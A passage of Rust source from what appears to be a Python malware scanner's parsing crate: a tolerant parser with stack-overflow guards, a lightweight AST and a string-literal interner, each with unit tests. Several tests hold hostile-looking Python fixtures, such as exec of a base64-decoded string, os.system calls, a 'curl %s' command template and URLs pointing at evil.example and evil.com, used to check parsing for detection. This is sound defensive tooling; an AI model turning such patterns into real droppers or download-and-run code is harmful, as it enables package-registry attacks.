                TokenKind::Op(o) if o == ":" && depth == 0 => {
                    self.bump();
                    break;
                }
                TokenKind::Op(o) if o == "(" || o == "[" || o == "{" => {
                    depth += 1;
                    header.push_str(o);
                    self.bump();
                }
                TokenKind::Op(o) if o == ")" || o == "]" || o == "}" => {
                    depth = depth.saturating_sub(1);
                    header.push_str(o);
                    self.bump();
                }
                TokenKind::Newline | TokenKind::Eof => break,
                other => {
                    header.push(' ');
                    header.push_str(&render(other));
                    self.bump();
                }
            }
        }
        let body = self.suite();
        Stmt::Block {
            keyword,
            header,
            body,
            line,
        }
    }

    /// Parses an indented body whose INDENT was just consumed, degrading
    /// to a flat [`Stmt::Other`] past [`MAX_BLOCK_DEPTH`] so hostile
    /// indentation cannot overflow the stack.
    fn indented_body(&mut self) -> Vec<Stmt> {
        if self.block_depth >= MAX_BLOCK_DEPTH {
            return vec![self.skip_block_as_other()];
        }
        self.block_depth += 1;
        let body = self.statements(true);
        self.block_depth -= 1;
        body
    }

    /// Consumes tokens up to (and including) the DEDENT matching an
    /// already-consumed INDENT, reconstructing the text so the block stays
    /// visible to string-level matchers.
    fn skip_block_as_other(&mut self) -> Stmt {
        let line = self.peek_token().line;
        let mut depth = 1usize;
        let mut text = String::new();
        while !self.at_eof() {
            match self.peek() {
                TokenKind::Indent => depth += 1,
                TokenKind::Dedent => {
                    depth -= 1;
                    if depth == 0 {
                        self.bump();
                        break;
                    }
                }
                _ => {}
            }
            // Bound the reconstruction: past 64 KiB the text is noise.
            if text.len() < 64 * 1024 {
                let piece = render(self.peek());
                if !piece.is_empty() && !text.ends_with([' ', '\n']) && !text.is_empty() {
                    text.push(' ');
                }
                text.push_str(&piece);
            }
            self.bump();
        }
        Stmt::Other {
            text: text.trim().to_owned(),
            line,
        }
    }

    /// Parses the body after a colon: either an indented block or an
    /// inline statement.
    fn suite(&mut self) -> Vec<Stmt> {
        // Consume optional colon remaining (def/class paths).
        self.eat_op(":");
        if matches!(self.peek(), TokenKind::Newline) {
            self.skip_newlines_and_comments();
            if matches!(self.peek(), TokenKind::Indent) {
                self.bump();
                return self.indented_body();
            }
            return Vec::new();
        }
        // Inline suite: `if x: do()`
        if matches!(self.peek(), TokenKind::Eof | TokenKind::Dedent) {
            return Vec::new();
        }
        vec![self.statement()]
    }

    fn consume_to_newline(&mut self) -> String {
        let mut text = String::new();
        loop {
            match self.peek() {
                TokenKind::Newline | TokenKind::Eof | TokenKind::Dedent => break,
                other => {
                    if !text.is_empty() {
                        text.push(' ');
                    }
                    text.push_str(&render(other));
                    self.bump();
                }
            }
        }
        if matches!(self.peek(), TokenKind::Newline) {
            self.bump();
        }
        text
    }

    // ---- expressions ----

    fn expression(&mut self) -> Expr {
        let mut left = self.unary();
        loop {
            let op = match self.peek() {
                TokenKind::Op(o)
                    if matches!(
                        o.as_str(),
                        "+" | "-"
                            | "*"
                            | "/"
                            | "%"
                            | "//"
                            | "**"
                            | "|"
                            | "&"
                            | "^"
                            | "=="
                            | "!="
                            | "<"
                            | ">"
                            | "<="
                            | ">="
                            | ">>"
                            | "<<"
                    ) =>
                {
                    o.clone()
                }
                TokenKind::Ident(w) if w == "and" || w == "or" || w == "in" || w == "is" => {
                    w.clone()
                }
                TokenKind::Ident(w) if w == "not" => w.clone(),
                _ => break,
            };
            self.bump();
            let right = self.unary();
            left = Expr::BinOp {
                left: Box::new(left),
                op,
                right: Box::new(right),
            };
        }
        left
    }

    fn unary(&mut self) -> Expr {
        // Every level of expression nesting (parentheses, call arguments,
        // unary chains) passes through here; past the cap, consume one
        // token and degrade so hostile nesting cannot overflow the stack.
        if self.expr_depth >= MAX_EXPR_DEPTH {
            return Expr::Other(render(&self.bump().kind));
        }
        self.expr_depth += 1;
        let expr = if matches!(self.peek(), TokenKind::Op(o) if o == "-" || o == "+" || o == "~")
            || matches!(self.peek(), TokenKind::Ident(w) if w == "not")
        {
            let op = render(self.peek());
            self.bump();
            let inner = self.unary();
            Expr::Other(format!("{op} {}", inner.to_text()))
        } else {
            self.postfix()
        };
        self.expr_depth -= 1;
        expr
    }

    fn postfix(&mut self) -> Expr {
        let mut expr = self.atom();
        loop {
            match self.peek() {
                TokenKind::Op(o) if o == "." => {
                    self.bump();
                    if let TokenKind::Ident(attr) = self.peek() {
                        let attr = attr.clone();
                        self.bump();
                        expr = Expr::Attribute {
                            value: Box::new(expr),
                            attr,
                        };
                    } else {
                        break;
                    }
                }
                TokenKind::Op(o) if o == "(" => {
                    self.bump();
                    let args = self.call_args();
                    expr = Expr::Call {
                        func: Box::new(expr),
                        args,
                    };
                }
                TokenKind::Op(o) if o == "[" => {
                    self.bump();
                    let mut depth = 1;
                    let mut text = String::new();
                    while depth > 0 && !self.at_eof() {
                        match self.peek() {
                            TokenKind::Op(o) if o == "[" => depth += 1,
                            TokenKind::Op(o) if o == "]" => {
                                depth -= 1;
                                if depth == 0 {
                                    self.bump();
                                    break;
                                }
                            }
                            _ => {}
                        }
                        if depth > 0 {
                            text.push_str(&render(self.peek()));
                            self.bump();
                        }
                    }
                    expr = Expr::Other(format!("{}[{}]", expr.to_text(), text));
                }
                _ => break,
            }
        }
        expr
    }

    fn call_args(&mut self) -> Vec<Arg> {
        let mut args = Vec::new();
        loop {
            match self.peek() {
                TokenKind::Op(o) if o == ")" => {
                    self.bump();
                    break;
                }
                TokenKind::Eof => break,
                TokenKind::Op(o) if o == "," => {
                    self.bump();
                }
                TokenKind::Op(o) if o == "*" || o == "**" => {
                    // *args / **kwargs forwarding.
                    self.bump();
                    let value = self.expression();
                    args.push(Arg { name: None, value });
                }
                _ => {
                    // keyword argument? ident '=' (not '==')
                    if let TokenKind::Ident(name) = self.peek().clone() {
                        if matches!(
                            self.tokens.get(self.pos + 1).map(|t| &t.kind),
                            Some(TokenKind::Op(o)) if o == "="
                        ) {
                            self.bump(); // name
                            self.bump(); // '='
                            let value = self.expression();
                            args.push(Arg {
                                name: Some(name),
                                value,
                            });
                            continue;
                        }
                    }
                    let value = self.expression();
                    args.push(Arg { name: None, value });
                }
            }
        }
        args
    }

    fn atom(&mut self) -> Expr {
        match self.peek().clone() {
            TokenKind::Ident(w) => {
                self.bump();
                Expr::Name(w)
            }
            TokenKind::Number(n) => {
                self.bump();
                Expr::Num(n)
            }
            TokenKind::Str { value, .. } => {
                self.bump();
                // Adjacent string literal concatenation.
                let mut v = value;
                while let TokenKind::Str { value: more, .. } = self.peek().clone() {
                    v.push_str(&more);
                    self.bump();
                }
                Expr::Str(v)
            }
            TokenKind::Op(o) if o == "(" => {
                self.bump();
                if self.eat_op(")") {
                    return Expr::Other("()".into());
                }
                let inner = self.expression();
                // Tuple or generator — flatten to Other but keep the first
                // element visible for matching.
                if matches!(self.peek(), TokenKind::Op(o) if o == ",") {
                    let mut parts = vec![inner.to_text()];
                    while self.eat_op(",") {
                        if matches!(self.peek(), TokenKind::Op(o) if o == ")") {
                            break;
                        }
                        parts.push(self.expression().to_text());
                    }
                    self.eat_op(")");
                    return Expr::Other(format!("({})", parts.join(", ")));
                }
                self.eat_op(")");
                inner
            }
            TokenKind::Op(o) if o == "[" || o == "{" => {
                // Collection literal — consume balanced and render.
                let open = o.clone();
                let close = if o == "[" { "]" } else { "}" };
                self.bump();
                let mut depth = 1;
                let mut text = String::new();
                while depth > 0 && !self.at_eof() {
                    match self.peek() {
                        TokenKind::Op(x) if x == &open => depth += 1,
                        TokenKind::Op(x) if x == close => {
                            depth -= 1;
                            if depth == 0 {
                                self.bump();
                                break;
                            }
                        }
                        _ => {}
                    }
                    if depth > 0 {
                        text.push_str(&render(self.peek()));
                        self.bump();
                    }
                }
                Expr::Other(format!("{open}{text}{close}"))
            }
            other => {
                self.bump();
                Expr::Other(render(&other))
            }
        }
    }
}

fn render(kind: &TokenKind) -> String {
    match kind {
        TokenKind::Ident(w) => w.clone(),
        TokenKind::Number(n) => n.clone(),
        TokenKind::Str { value, .. } => format!("'{value}'"),
        TokenKind::Op(o) => o.clone(),
        TokenKind::Comment(c) => c.clone(),
        TokenKind::Newline => "\n".into(),
        TokenKind::Indent | TokenKind::Dedent => String::new(),
        TokenKind::Eof => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_imports() {
        let m = parse_module("import os\nimport sys, json\n");
        assert_eq!(m.body.len(), 2);
        match &m.body[1] {
            Stmt::Import { modules, .. } => {
                assert_eq!(
                    modules,
                    &vec![ImportedName::plain("sys"), ImportedName::plain("json")]
                )
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_dotted_import() {
        let m = parse_module("import os.path\n");
        match &m.body[0] {
            Stmt::Import { modules, .. } => assert_eq!(modules[0], ImportedName::plain("os.path")),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_from_import() {
        let m = parse_module("from subprocess import Popen, PIPE\n");
        match &m.body[0] {
            Stmt::FromImport { module, names, .. } => {
                assert_eq!(module, "subprocess");
                assert_eq!(
                    names,
                    &vec![ImportedName::plain("Popen"), ImportedName::plain("PIPE")]
                );
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn import_aliases_are_retained() {
        let m = parse_module("import os as o, base64\nfrom subprocess import run as r\n");
        match &m.body[0] {
            Stmt::Import { modules, .. } => {
                assert_eq!(
                    modules,
                    &vec![
                        ImportedName::aliased("os", "o"),
                        ImportedName::plain("base64")
                    ]
                );
                assert_eq!(modules[0].binding(), "o");
            }
            other => panic!("unexpected {other:?}"),
        }
        match &m.body[1] {
            Stmt::FromImport { module, names, .. } => {
                assert_eq!(module, "subprocess");
                assert_eq!(names, &vec![ImportedName::aliased("run", "r")]);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_function_def() {
        let src = "def install(target, mode):\n    os.system(target)\n";
        let m = parse_module(src);
        match &m.body[0] {
            Stmt::FunctionDef {
                name, params, body, ..
            } => {
                assert_eq!(name, "install");
                assert_eq!(params, &vec!["target".to_owned(), "mode".to_owned()]);
                assert_eq!(body.len(), 1);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_class_def() {
        let src = "class Installer(setuptools.Command):\n    pass\n";
        let m = parse_module(src);
        match &m.body[0] {
            Stmt::ClassDef { name, bases, .. } => {
                assert_eq!(name, "Installer");
                assert_eq!(bases[0], "setuptools.Command");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_call_with_keyword_args() {
        let m = parse_module("subprocess.Popen(cmd, shell=True)\n");
        match &m.body[0] {
            Stmt::Expr { value, .. } => match value {
                Expr::Call { func, args } => {
                    assert_eq!(func.func_path(), "subprocess.Popen");
                    assert_eq!(args.len(), 2);
                    assert_eq!(args[1].name.as_deref(), Some("shell"));
                    assert_eq!(args[1].value, Expr::Name("True".into()));
                }
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_nested_calls() {
        let m = parse_module("exec(base64.b64decode('cGF5bG9hZA=='))\n");
        match &m.body[0] {
            Stmt::Expr { value, .. } => match value {
                Expr::Call { func, args } => {
                    assert_eq!(func.func_path(), "exec");
                    match &args[0].value {
                        Expr::Call { func, args } => {
                            assert_eq!(func.func_path(), "base64.b64decode");
                            assert_eq!(args[0].value, Expr::Str("cGF5bG9hZA==".into()));
                        }
                        other => panic!("unexpected {other:?}"),
                    }
                }
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_assignment() {
        let m = parse_module("url = 'http://evil.example'\n");
        match &m.body[0] {
            Stmt::Assign { targets, value, .. } => {
                assert_eq!(targets[0], "url");
                assert_eq!(value, &Expr::Str("http://evil.example".into()));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_attribute_assignment_target() {
        let m = parse_module("self.url = get()\n");
        match &m.body[0] {
            Stmt::Assign { targets, .. } => assert_eq!(targets[0], "self.url"),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_if_block() {
        let src = "if platform.system() == 'Windows':\n    run()\n";
        let m = parse_module(src);
        match &m.body[0] {
            Stmt::Block { keyword, body, .. } => {
                assert_eq!(keyword, "if");
                assert_eq!(body.len(), 1);
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_try_except() {
        let src = "try:\n    risky()\nexcept Exception:\n    pass\n";
        let m = parse_module(src);
        assert_eq!(m.body.len(), 2);
        assert!(matches!(&m.body[0], Stmt::Block { keyword, .. } if keyword == "try"));
        assert!(matches!(&m.body[1], Stmt::Block { keyword, .. } if keyword == "except"));
    }

    #[test]
    fn parses_inline_suite() {
        let m = parse_module("if debug: print(x)\n");
        match &m.body[0] {
            Stmt::Block { body, .. } => assert_eq!(body.len(), 1),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn parses_return() {
        let m = parse_module("def f():\n    return os.environ\n");
        match &m.body[0] {
            Stmt::FunctionDef { body, .. } => match &body[0] {
                Stmt::Return { value: Some(v), .. } => {
                    assert_eq!(v.func_path(), "os.environ");
                }
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn tolerates_garbage() {
        let m = parse_module("??? !!! ***\nx = 1\n");
        assert!(m.body.len() >= 2);
        assert!(matches!(m.body.last().expect("x=1"), Stmt::Assign { .. }));
    }

    #[test]
    fn adjacent_string_concatenation() {
        let m = parse_module("u = 'http://' 'evil.com'\n");
        match &m.body[0] {
            Stmt::Assign { value, .. } => {
                assert_eq!(value, &Expr::Str("http://evil.com".into()));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn string_percent_format_binop() {
        let m = parse_module("cmd = 'curl %s' % url\n");
        match &m.body[0] {
            Stmt::Assign { value, .. } => {
                assert!(matches!(value, Expr::BinOp { op, .. } if op == "%"));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn multiline_call_parses() {
        let src = "setup(\n    name='evil',\n    version='0.0.0',\n)\n";
        let m = parse_module(src);
        match &m.body[0] {
            Stmt::Expr { value, .. } => match value {
                Expr::Call { func, args } => {
                    assert_eq!(func.func_path(), "setup");
                    assert_eq!(args.len(), 2);
                }
                other => panic!("unexpected {other:?}"),
            },
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn decorated_function_body_found() {
        let src = "@atexit.register\ndef boom():\n    leak()\n";
        let m = parse_module(src);
        assert!(m
            .body
            .iter()
            .any(|s| matches!(s, Stmt::FunctionDef { name, .. } if name == "boom")));
    }

    #[test]
    fn chained_assignment_targets() {
        let m = parse_module("a = b = get_payload()\n");
        match &m.body[0] {
            Stmt::Assign { targets, value, .. } => {
                assert_eq!(targets.len(), 2);
                assert_eq!(value.func_path(), "get_payload");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn pathological_paren_nesting_does_not_overflow_stack() {
        // 100k opening parens used to recurse once per paren.
        let src = format!("x = {}1\n", "(".repeat(100_000));
        let m = parse_module(&src);
        assert!(!m.body.is_empty());
    }

    #[test]
    fn pathological_unary_chain_does_not_overflow_stack() {
        let src = format!("x = {}1\n", "-".repeat(100_000));
        let m = parse_module(&src);
        assert!(!m.body.is_empty());
    }

    #[test]
    fn pathological_indentation_does_not_overflow_stack() {
        let mut src = String::new();
        for d in 0..3_000 {
            src.push_str(&" ".repeat(d));
            src.push_str("if x:\n");
        }
        src.push_str(&" ".repeat(3_000));
        src.push_str("os.system('deep')\n");
        let m = parse_module(&src);
        assert!(!m.body.is_empty());
        // The payload text survives somewhere in the degraded tree.
        fn contains(stmts: &[Stmt], needle: &str) -> bool {
            stmts.iter().any(|s| match s {
                Stmt::Other { text, .. } => text.contains(needle),
                Stmt::Block { body, .. }
                | Stmt::FunctionDef { body, .. }
                | Stmt::ClassDef { body, .. } => contains(body, needle),
                Stmt::Expr { value, .. } => value.to_text().contains(needle),
                _ => false,
            })
        }
        // Token-level reconstruction spaces glyphs apart, so probe for the
        // string payload rather than the dotted call.
        assert!(contains(&m.body, "deep"), "payload text lost");
    }

    #[test]
    fn pathological_bracket_soup_terminates() {
        let src = "[(".repeat(50_000);
        let m = parse_module(&src);
        let _ = m.body.len();
    }

    #[test]
    fn unterminated_string_and_weird_escapes_parse() {
        let m = parse_module("x = 'oops\\q\ny = 'unterminated");
        assert!(!m.body.is_empty());
    }

    #[test]
    fn deep_nesting_survives() {
        let mut src = String::new();
        for i in 0..20 {
            src.push_str(&"    ".repeat(i));
            src.push_str("if x:\n");
        }
        src.push_str(&"    ".repeat(20));
        src.push_str("boom()\n");
        let m = parse_module(&src);
        assert!(!m.body.is_empty());
    }
}

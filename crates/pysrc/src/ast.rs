//! Lightweight Python AST.
//!
//! Only the shapes that rule matching needs are modelled precisely
//! (imports, defs, classes, calls, attributes, assignments, strings);
//! everything else degrades to [`Stmt::Other`] / [`Expr::Other`] so that
//! arbitrary malware source always produces *some* tree.

/// A parsed source file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Module {
    /// Top-level statements.
    pub body: Vec<Stmt>,
}

/// One name bound by an import statement: the dotted path as written
/// plus the `as` alias, when one was given.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImportedName {
    /// Dotted module path (`os.path`) or imported name (`environ`).
    pub path: String,
    /// The binding introduced by `as`, if any.
    pub alias: Option<String>,
}

impl ImportedName {
    /// An import without an alias.
    pub fn plain(path: impl Into<String>) -> Self {
        ImportedName {
            path: path.into(),
            alias: None,
        }
    }

    /// An `as`-aliased import.
    pub fn aliased(path: impl Into<String>, alias: impl Into<String>) -> Self {
        ImportedName {
            path: path.into(),
            alias: Some(alias.into()),
        }
    }

    /// The local name this import binds: the alias if present, else the
    /// first dotted segment (`import a.b` binds `a`; a from-import name
    /// has no dots, so the name itself).
    pub fn binding(&self) -> &str {
        match &self.alias {
            Some(a) => a,
            None => self.path.split('.').next().unwrap_or(&self.path),
        }
    }
}

/// A statement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Stmt {
    /// `import a, b.c as d`
    Import {
        /// Dotted module paths with optional aliases.
        modules: Vec<ImportedName>,
        /// 1-based source line.
        line: usize,
    },
    /// `from m import x, y as z`
    FromImport {
        /// The source module path.
        module: String,
        /// Imported names with optional aliases.
        names: Vec<ImportedName>,
        /// 1-based source line.
        line: usize,
    },
    /// `def name(params): body`
    FunctionDef {
        /// Function name.
        name: String,
        /// Parameter names (annotations/defaults stripped).
        params: Vec<String>,
        /// Nested statements.
        body: Vec<Stmt>,
        /// 1-based source line of the `def`.
        line: usize,
    },
    /// `class name(bases): body`
    ClassDef {
        /// Class name.
        name: String,
        /// Base-class expressions as text.
        bases: Vec<String>,
        /// Nested statements.
        body: Vec<Stmt>,
        /// 1-based source line of the `class`.
        line: usize,
    },
    /// `target = value` (chained targets flattened).
    Assign {
        /// Assignment targets rendered as text (`x`, `obj.attr`).
        targets: Vec<String>,
        /// Right-hand side.
        value: Expr,
        /// 1-based source line.
        line: usize,
    },
    /// A bare expression statement (usually a call).
    Expr {
        /// The expression.
        value: Expr,
        /// 1-based source line.
        line: usize,
    },
    /// `return [value]`
    Return {
        /// Returned expression, if any.
        value: Option<Expr>,
        /// 1-based source line.
        line: usize,
    },
    /// A compound statement we don't model structurally (`if`, `for`,
    /// `while`, `try`, `with`, `else`, ...): header text plus nested body.
    Block {
        /// Leading keyword (`if`, `for`, `try`, ...).
        keyword: String,
        /// Full header text up to the colon.
        header: String,
        /// Nested statements.
        body: Vec<Stmt>,
        /// 1-based source line of the header.
        line: usize,
    },
    /// Anything unparsable, kept as reconstructed text.
    Other {
        /// Reconstructed source text.
        text: String,
        /// 1-based source line.
        line: usize,
    },
}

impl Stmt {
    /// Shifts this statement's line number — and, for the block shapes,
    /// every nested statement's — by `delta`.
    ///
    /// The incremental artifact splicer reuses statements parsed from
    /// the previous version of a file; when an edit adds or removes
    /// lines, the unchanged suffix statements keep their shapes but
    /// their line numbers move by the edit's net line count.
    pub fn shift_lines(&mut self, delta: isize) {
        if delta == 0 {
            return;
        }
        match self {
            Stmt::Import { line, .. }
            | Stmt::FromImport { line, .. }
            | Stmt::Assign { line, .. }
            | Stmt::Expr { line, .. }
            | Stmt::Return { line, .. }
            | Stmt::Other { line, .. } => *line = line.saturating_add_signed(delta),
            Stmt::FunctionDef { line, body, .. }
            | Stmt::ClassDef { line, body, .. }
            | Stmt::Block { line, body, .. } => {
                *line = line.saturating_add_signed(delta);
                for stmt in body {
                    stmt.shift_lines(delta);
                }
            }
        }
    }

    /// The 1-based source line of the statement.
    pub fn line(&self) -> usize {
        match self {
            Stmt::Import { line, .. }
            | Stmt::FromImport { line, .. }
            | Stmt::FunctionDef { line, .. }
            | Stmt::ClassDef { line, .. }
            | Stmt::Assign { line, .. }
            | Stmt::Expr { line, .. }
            | Stmt::Return { line, .. }
            | Stmt::Block { line, .. }
            | Stmt::Other { line, .. } => *line,
        }
    }
}

/// An expression.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expr {
    /// A bare name.
    Name(String),
    /// A string literal (contents only).
    Str(String),
    /// A numeric literal, kept as text.
    Num(String),
    /// `value.attr`
    Attribute {
        /// The object expression.
        value: Box<Expr>,
        /// The attribute name.
        attr: String,
    },
    /// `func(args...)`
    Call {
        /// The callee expression.
        func: Box<Expr>,
        /// Positional and keyword arguments, in order.
        args: Vec<Arg>,
    },
    /// `left op right` for binary operators we keep (`+`, `%`, ...).
    BinOp {
        /// Left operand.
        left: Box<Expr>,
        /// Operator glyph.
        op: String,
        /// Right operand.
        right: Box<Expr>,
    },
    /// Anything else, as reconstructed text.
    Other(String),
}

/// One call argument.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Arg {
    /// Keyword name for `name=value` arguments.
    pub name: Option<String>,
    /// Argument value.
    pub value: Expr,
}

impl Expr {
    /// Renders the dotted path of a callee: `os.system` for
    /// `Attribute(Name(os), system)`, `exec` for `Name(exec)`. For a call,
    /// delegates to its callee. Returns an empty string for shapes without
    /// a sensible path.
    pub fn func_path(&self) -> String {
        match self {
            Expr::Name(n) => n.clone(),
            Expr::Attribute { value, attr } => {
                let base = value.func_path();
                if base.is_empty() {
                    attr.clone()
                } else {
                    format!("{base}.{attr}")
                }
            }
            Expr::Call { func, .. } => func.func_path(),
            // A parenthesized or otherwise unmodelled callee whose
            // reconstructed text is a plain dotted path still names a
            // resolvable callee: `(os.system)(cmd)` must dispatch like
            // `os.system(cmd)`.
            Expr::Other(text) => {
                let mut t = text.trim();
                while t.starts_with('(') && t.ends_with(')') && t.len() >= 2 {
                    t = t[1..t.len() - 1].trim();
                }
                let compact: String = t.chars().filter(|c| !c.is_whitespace()).collect();
                if is_dotted_path(&compact) {
                    compact
                } else {
                    String::new()
                }
            }
            _ => String::new(),
        }
    }

    /// Renders the expression back to approximate source text.
    pub fn to_text(&self) -> String {
        match self {
            Expr::Name(n) => n.clone(),
            Expr::Str(s) => format!("'{s}'"),
            Expr::Num(n) => n.clone(),
            Expr::Attribute { value, attr } => format!("{}.{attr}", value.to_text()),
            Expr::Call { func, args } => {
                let rendered: Vec<String> = args
                    .iter()
                    .map(|a| match &a.name {
                        Some(n) => format!("{n}={}", a.value.to_text()),
                        None => a.value.to_text(),
                    })
                    .collect();
                format!("{}({})", func.to_text(), rendered.join(", "))
            }
            Expr::BinOp { left, op, right } => {
                format!("{} {op} {}", left.to_text(), right.to_text())
            }
            Expr::Other(t) => t.clone(),
        }
    }
}

/// True when `s` is `ident(.ident)*` — a plain dotted path with no
/// calls, subscripts or operators.
fn is_dotted_path(s: &str) -> bool {
    !s.is_empty()
        && s.split('.').all(|seg| {
            let mut chars = seg.chars();
            match chars.next() {
                Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                    chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
                }
                _ => false,
            }
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn func_path_of_dotted_call() {
        let e = Expr::Call {
            func: Box::new(Expr::Attribute {
                value: Box::new(Expr::Name("os".into())),
                attr: "system".into(),
            }),
            args: vec![],
        };
        assert_eq!(e.func_path(), "os.system");
    }

    #[test]
    fn func_path_of_plain_name() {
        assert_eq!(Expr::Name("exec".into()).func_path(), "exec");
    }

    #[test]
    fn to_text_roundtrips_call_shape() {
        let e = Expr::Call {
            func: Box::new(Expr::Name("requests".into())),
            args: vec![Arg {
                name: Some("url".into()),
                value: Expr::Str("http://x".into()),
            }],
        };
        assert_eq!(e.to_text(), "requests(url='http://x')");
    }

    #[test]
    fn func_path_resolves_other_wrapped_dotted_text() {
        // A parenthesized callee the parser kept as raw text.
        assert_eq!(Expr::Other("( os.system )".into()).func_path(), "os.system");
        assert_eq!(
            Expr::Other("(( urllib.request.urlopen ))".into()).func_path(),
            "urllib.request.urlopen"
        );
        // Call through an Other callee.
        let e = Expr::Call {
            func: Box::new(Expr::Other("(subprocess.run)".into())),
            args: vec![],
        };
        assert_eq!(e.func_path(), "subprocess.run");
    }

    #[test]
    fn func_path_rejects_non_path_other_text() {
        assert_eq!(Expr::Other("a + b".into()).func_path(), "");
        assert_eq!(Expr::Other("[1, 2]".into()).func_path(), "");
        assert_eq!(Expr::Other("f(x).g".into()).func_path(), "");
        assert_eq!(Expr::Other("".into()).func_path(), "");
        assert_eq!(Expr::Other("3.14".into()).func_path(), "");
    }

    #[test]
    fn imported_name_binding() {
        assert_eq!(ImportedName::plain("os").binding(), "os");
        assert_eq!(ImportedName::plain("os.path").binding(), "os");
        assert_eq!(ImportedName::aliased("os", "o").binding(), "o");
        assert_eq!(ImportedName::aliased("os.path", "p").binding(), "p");
    }

    #[test]
    fn stmt_line_accessor() {
        let s = Stmt::Other {
            text: "x".into(),
            line: 7,
        };
        assert_eq!(s.line(), 7);
    }
}

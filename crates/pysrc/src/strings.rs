//! Interned string-literal tables.
//!
//! The per-file analysis artifact (see the `scanhub` crate) carries every
//! string literal of a source file exactly once: registry malware hides
//! its payloads in literals (base64 blobs, hex-encoded commands, split
//! C2 hostnames), and downstream consumers — decoded-layer extraction,
//! reporting, heuristics — all want the same deduplicated view. Interning
//! from the **token stream** rather than the AST means literals survive
//! even inside statements the tolerant parser degraded to `Stmt::Other`.

use std::collections::HashMap;

use crate::token::{SpannedToken, TokenKind};

/// One occurrence of a string literal in a source file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StringRef {
    /// Index into [`StringTable::literals`].
    pub literal: u32,
    /// 1-based source line of this occurrence.
    pub line: u32,
}

/// A deduplicated table of a file's string literals.
///
/// `literals` holds each distinct literal value once, in first-seen
/// order; `refs` records every occurrence as `(literal index, line)`.
/// A literal repeated a thousand times (a classic chunked-payload trick)
/// costs one table entry plus a thousand 8-byte refs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StringTable {
    /// Distinct literal values, first-seen order.
    pub literals: Vec<String>,
    /// Every occurrence, in token order.
    pub refs: Vec<StringRef>,
}

impl StringTable {
    /// Number of distinct literals.
    pub fn len(&self) -> usize {
        self.literals.len()
    }

    /// True when the file contains no string literals.
    pub fn is_empty(&self) -> bool {
        self.literals.is_empty()
    }

    /// The first line on which `literals[index]` occurs, when known.
    pub fn first_line(&self, index: u32) -> Option<u32> {
        self.refs
            .iter()
            .find(|r| r.literal == index)
            .map(|r| r.line)
    }
}

/// Builds an interned [`StringTable`] from a spanned token stream.
///
/// f-strings are skipped: their lexed value still contains `{...}`
/// interpolation holes, so the text is not a runtime string value.
/// Raw and bytes literals are kept — encoded payloads ship in both.
pub fn intern_strings(tokens: &[SpannedToken]) -> StringTable {
    intern_iter(tokens.iter().map(|t| (&t.token.kind, t.token.line)))
}

/// [`intern_strings`] over a [`TokenRope`](crate::TokenRope), reading
/// each occurrence's line through the rope's lazy rebase — a spliced
/// stream interns to the exact table a full relex would produce,
/// without materializing the shared tokens.
pub fn intern_rope(rope: &crate::TokenRope) -> StringTable {
    intern_iter(rope.iter().map(|v| (&v.token.kind, v.line)))
}

fn intern_iter<'a>(tokens: impl Iterator<Item = (&'a TokenKind, usize)>) -> StringTable {
    let mut table = StringTable::default();
    let mut ids: HashMap<&str, u32> = HashMap::new();
    // The map borrows literal text from the tokens while the table
    // accumulates owned copies.
    for (kind, line) in tokens {
        let TokenKind::Str { value, prefix } = kind else {
            continue;
        };
        if prefix.contains('f') {
            continue;
        }
        let id = match ids.get(value.as_str()) {
            Some(&id) => id,
            None => {
                let id = table.literals.len() as u32;
                table.literals.push(value.clone());
                ids.insert(value.as_str(), id);
                id
            }
        };
        table.refs.push(StringRef {
            literal: id,
            line: line as u32,
        });
    }
    table
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex_spanned;

    fn table(src: &str) -> StringTable {
        intern_strings(&lex_spanned(src))
    }

    #[test]
    fn rope_interning_matches_slice_interning() {
        let src = "a = 'x'\nb = 'y'\nc = 'x'\nd = f'{a}'\n";
        let tokens = lex_spanned(src);
        let rope = crate::TokenRope::from_tokens(tokens.clone());
        assert_eq!(intern_rope(&rope), intern_strings(&tokens));
    }

    #[test]
    fn interns_distinct_literals_once() {
        let t = table("a = 'x'\nb = 'y'\nc = 'x'\n");
        assert_eq!(t.literals, vec!["x".to_owned(), "y".to_owned()]);
        assert_eq!(t.refs.len(), 3);
        assert_eq!(t.refs[2].literal, 0, "repeat points at the first entry");
        assert_eq!(t.refs[2].line, 3);
    }

    #[test]
    fn records_lines_per_occurrence() {
        let t = table("p = 'payload'\n\n\nq = 'payload'\n");
        assert_eq!(t.len(), 1);
        assert_eq!(t.first_line(0), Some(1));
        assert_eq!(t.refs[1].line, 4);
    }

    #[test]
    fn skips_fstrings_keeps_raw_and_bytes() {
